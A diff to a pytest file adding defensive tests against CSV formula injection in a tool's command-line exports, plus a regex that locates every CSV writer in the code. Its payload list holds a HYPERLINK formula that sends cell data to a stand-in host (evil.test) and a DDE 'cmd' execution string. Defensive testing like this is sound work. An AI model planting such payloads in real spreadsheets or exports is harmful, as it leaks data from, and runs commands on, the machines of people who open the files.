@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import pytest
 from click.testing import CliRunner
@@ -36,6 +37,11 @@ PAYLOADS = [
     '=HYPERLINK("http://evil.test?x="&A1,"click")',
     "%0A-3+3+cmd|' /C calc'!D2",
 ]
+# Ways to write a table for spreadsheets: by a library, or cells put together by hand.
+WRITER = re.compile(
+    r"csv\.writer|DictWriter|to_csv|write_csv|CSVWriter|from csv import|"
+    r"""["'](?:,|;|\\t)["']\.join|\}(?:,|;|\\t)\{[^"']*\\n["']"""
+)
 STARTS = tuple("=+-@＝＋－＠")
 
 
@@ -81,9 +87,34 @@ def test_the_command_line_prints_the_same_table(trained_home):
     assert said.stdout.startswith("subject,")
 
 
+@pytest.mark.faults
+def test_no_cell_that_the_command_line_prints_begins_a_formula(trained_home, compared, monkeypatch):
+    """Seen to fail with `harmless` returning its cell."""
+    words = ["compare", "base", "tiny-1", "--csv", "--home", str(trained_home.path)]
+    for payload in PAYLOADS:
+        objects = [{**compared[0], "subject": payload, "decoding": payload}, *compared[1:]]
+        monkeypatch.setattr(scoreboard, "compare", lambda *given, objects=objects: (objects, []))
+        said = CliRunner().invoke(cli, words)
+        assert said.exit_code == 0, said.output
+        for cells in sheets(said.stdout):
+            assert not [cell for cell in cells if cell.startswith(STARTS)], payload
+
+
 def test_all_tables_of_spreadsheets_are_made_in_one_place():
     """A new writer of csv files must neutralise, too; the other one here writes a cell of the label editor."""
     from test_layers import FILES, name_of
 
-    writers = [name_of(path) for path in FILES if "csv.writer" in path.read_text() or "to_csv" in path.read_text()]
-    assert sorted(writers) == ["exports.py", "ui/label_table.py"]
+    found = [name_of(path) for path in FILES if WRITER.search(path.read_text())]
+    assert sorted(found) == ["exports.py", "ui/label_table.py"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        *("csv.writer(file)", "csv.DictWriter(file, names)", "frame.to_csv(path)", "pa_csv.write_csv(table, path)"),
+        *("from csv import writer", "pyarrow.csv.CSVWriter(path, schema)", '",".join(cells)', "';'.join(row)"),
+        *('"\\t".join(row)', "line = f'{a},{b}\\n'"),
+    ],
+)
+def test_this_test_would_notice(code):
+    assert WRITER.search(code)
